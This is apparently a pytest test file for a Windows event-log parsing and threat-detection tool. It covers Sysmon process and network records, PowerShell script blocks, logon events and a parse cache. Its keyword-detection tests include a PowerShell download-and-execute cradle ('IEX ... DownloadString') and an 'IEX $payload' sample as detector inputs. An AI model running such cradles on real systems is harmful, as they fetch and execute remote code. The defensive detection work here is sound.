"""Tests for event records, payload parsers and the parse cache."""

import json

import pytest

from winstride.data.event_parsers import (
    basename,
    decode_event_data,
    find_suspicious_keywords,
    get_data_array,
    get_data_field,
    parse_command_execution,
    parse_file_create,
    parse_logon_data,
    parse_network_connect,
    parse_process_create,
    parse_script_block,
    sysmon_image_name,
    sysmon_user,
)
from winstride.data.event_record import EventRecord
from winstride.data.parse_cache import ParseCache, default_cache
from winstride.utils.error_handler import PayloadParseError, RecordFormatError


# ── EventRecord ───────────────────────────────────────────────────────


class TestEventRecord:
    def test_from_api_payload(self):
        record = EventRecord.from_dict({
            "id": 17,
            "eventId": 4624,
            "logName": "Security",
            "machineName": "DC01",
            "level": "Information",
            "timeCreated": "2026-02-17T10:15:30.1234567Z",
            "eventData": None,
        })
        assert record.id == 17
        assert record.event_id == 4624
        assert record.machine_name == "DC01"
        assert record.log_name == "Security"
        assert record.timestamp.year == 2026
        assert record.to_dict()["eventId"] == 4624

    def test_snake_case_keys(self):
        record = EventRecord.from_dict({"id": "3", "event_id": "1", "machine_name": "WS01"})
        assert (record.id, record.event_id) == (3, 1)

    @pytest.mark.parametrize("payload", [
        {"eventId": 4624},
        {"id": 1},
        {"id": "x", "eventId": 4624},
    ])
    def test_missing_ids_raise(self, payload):
        with pytest.raises(RecordFormatError):
            EventRecord.from_dict(payload)

    def test_records_are_immutable(self):
        record = EventRecord(id=1, event_id=1, machine_name="WS01", time_created="")
        with pytest.raises(AttributeError):
            record.level = "Warning"

    def test_unparseable_timestamp(self):
        record = EventRecord(id=1, event_id=1, machine_name="WS01", time_created="yesterday")
        assert record.timestamp is None


# ── Payload helpers ───────────────────────────────────────────────────


class TestPayloadHelpers:
    def test_single_data_object_is_wrapped(self, events):
        payload = json.dumps({"EventData": {"Data": {"@Name": "Image", "#text": "C:\\a.exe"}}})
        record = events.record(1, 1, event_data=payload)
        assert get_data_array(record) == [{"@Name": "Image", "#text": "C:\\a.exe"}]

    @pytest.mark.parametrize("payload", [None, "", "{broken", "[]", '{"Event": {}}', '{"EventData": {"Data": []}}'])
    def test_unusable_payloads(self, events, payload):
        record = events.record(1, 1, event_data=payload)
        assert get_data_array(record) is None
        with pytest.raises(PayloadParseError):
            decode_event_data(record)

    def test_get_data_field(self):
        data = [{"@Name": "User", "#text": "CORP\\alice"}, {"@Name": "Empty"}]
        assert get_data_field(data, "User") == "CORP\\alice"
        assert get_data_field(data, "Empty") == ""
        assert get_data_field(data, "Missing") == ""
        assert get_data_field("not a list", "User") == ""

    def test_basename(self):
        assert basename("C:\\Windows\\System32\\cmd.exe") == "cmd.exe"
        assert basename("/usr/bin/python3") == "python3"
        assert basename("plain") == "plain"

    def test_suspicious_keywords(self):
        text = "IEX (New-Object Net.WebClient).DownloadString('http://x')"
        matches = find_suspicious_keywords(text)
        assert "IEX" in matches
        assert "Net.WebClient" in matches
        assert "DownloadString" in matches
        assert find_suspicious_keywords("Get-Date") == []


# ── Sysmon ────────────────────────────────────────────────────────────


class TestSysmonParsers:
    def test_process_create(self, events):
        record = events.process_create(1, "{G-1}", parent_guid="{G-0}", integrity="High",
                                       image="C:\\Windows\\System32\\whoami.exe")
        proc = parse_process_create(record)
        assert proc.process_guid == "{G-1}"
        assert proc.parent_process_guid == "{G-0}"
        assert proc.image_name == "whoami.exe"
        assert proc.parent_image_name == "explorer.exe"
        assert proc.integrity_level == "High"
        assert proc.process_id == 4242

    def test_wrong_event_id_returns_none(self, events):
        record = events.process_create(1, "{G-1}")
        assert parse_network_connect(record) is None
        assert parse_file_create(record) is None
        assert parse_script_block(record) is None

    def test_malformed_payload_returns_none(self, events):
        assert parse_process_create(events.record(1, 1, event_data="{oops")) is None

    def test_network_connect(self, events):
        net = parse_network_connect(events.network_connect(1, "{G}", ip="8.8.4.4", port=53, protocol="udp"))
        assert net.destination_ip == "8.8.4.4"
        assert net.destination_port == 53
        assert net.protocol == "udp"
        assert net.initiated is True
        assert net.image_name == "app.exe"

    def test_file_create(self, events):
        created = parse_file_create(events.file_create(1, "{G}", target="C:\\Temp\\drop.exe"))
        assert created.target_filename == "C:\\Temp\\drop.exe"
        assert created.target_basename == "drop.exe"
        assert created.image_name == "powershell.exe"

    def test_sysmon_helpers(self, events):
        assert sysmon_image_name(events.file_create(1, "{G}")) == "powershell.exe"
        assert sysmon_user(events.network_connect(2, "{G}", user="CORP\\svc")) == "CORP\\svc"
        assert sysmon_image_name(events.record(3, 1, event_data=None)) == ""


# ── PowerShell ────────────────────────────────────────────────────────


class TestPowerShellParsers:
    def test_script_block(self, events):
        block = parse_script_block(events.script_block(
            1, text="IEX $payload", path="C:\\Temp\\a.ps1", level="Warning"))
        assert block.script_block_text == "IEX $payload"
        assert block.path == "C:\\Temp\\a.ps1"
        assert block.message_number == 1
        assert block.is_suspicious is True
        assert "IEX" in block.suspicious_matches

    def test_script_block_not_warning(self, events):
        assert parse_script_block(events.script_block(1, level="Verbose")).is_suspicious is False

    def test_command_execution_context(self, events):
        cmd = parse_command_execution(events.command_execution(
            1, command="Invoke-WebRequest", script="C:\\s\\dl.ps1", user="CORP\\bob"))
        assert cmd.command_name == "Invoke-WebRequest"
        assert cmd.command_type == "Cmdlet"
        assert cmd.script_name == "C:\\s\\dl.ps1"
        assert cmd.user == "CORP\\bob"
        assert cmd.host_application == "powershell.exe -NoProfile"
        assert cmd.payload == "CommandInvocation(Get-ChildItem)"


# ── Security ──────────────────────────────────────────────────────────


class TestLogonParser:
    def test_logon_fields(self, events):
        data = parse_logon_data(events.logon(1, user="alice", logon_type="10", ip="203.0.113.9",
                                             elevated="%%1842"))
        assert data.target_user_name == "alice"
        assert data.logon_type == 10
        assert data.logon_type_label == "RDP"
        assert data.ip_address == "203.0.113.9"
        assert data.elevated_token is True
        assert data.key_length == 0

    def test_unknown_logon_type_label(self, events):
        assert parse_logon_data(events.logon(1, logon_type="42")).logon_type_label == "Type 42"

    def test_missing_ip_is_dash(self, events):
        assert parse_logon_data(events.logon(1, ip="")).ip_address == "-"

    def test_failure_status(self, events):
        data = parse_logon_data(events.logon(1, event_id=4625, status="0xc000006d", sub_status="0xc000006a"))
        assert data.failure_status == "0xc000006d"
        assert data.failure_sub_status == "0xc000006a"


# ── ParseCache ────────────────────────────────────────────────────────


class TestParseCache:
    def test_memoizes_including_none(self, events):
        cache = ParseCache()
        calls = []

        def parser(record):
            calls.append(record.id)
            return None

        record = events.record(1, 1, event_data="{bad")
        assert cache.get_or_parse("k", record, parser) is None
        assert cache.get_or_parse("k", record, parser) is None
        assert calls == [1]
        assert cache.get_stats()["hits"] == 1

    def test_changed_record_is_new_key(self, events):
        cache = ParseCache()
        first = events.process_create(1, "A")
        second = events.process_create(1, "B")
        assert cache.get_or_parse("p", first, lambda r: r.event_data) != \
            cache.get_or_parse("p", second, lambda r: r.event_data)
        assert len(cache) == 2

    def test_retain_evicts_dropped_records(self, events):
        cache = ParseCache()
        records = [events.process_create(i, f"G{i}") for i in range(1, 4)]
        for record in records:
            cache.get_or_parse("p", record, lambda r: r.id)
        assert cache.retain(records[:1]) == 2
        assert len(cache) == 1

    def test_retain_keeps_ids_held_by_other_owners(self, events):
        cache = ParseCache()
        sysmon = [events.process_create(i, f"G{i}") for i in range(1, 4)]
        security = [events.logon(i) for i in range(100, 103)]
        assert cache.retain(sysmon, owner="sysmon") == 0
        assert cache.retain(security, owner="security") == 0
        for record in sysmon + security:
            cache.get_or_parse("p", record, lambda r: r.id)

        assert cache.retain(security[:1], owner="security") == 2
        assert len(cache) == 4

        assert cache.release("sysmon") == 3
        assert cache.release("sysmon") == 0
        assert cache.owners() == ["security"]
        assert len(cache) == 1

    def test_parsers_share_default_cache(self, events):
        record = events.process_create(1, "A")
        first = parse_process_create(record)
        assert parse_process_create(record) is first
        assert len(default_cache) == 1
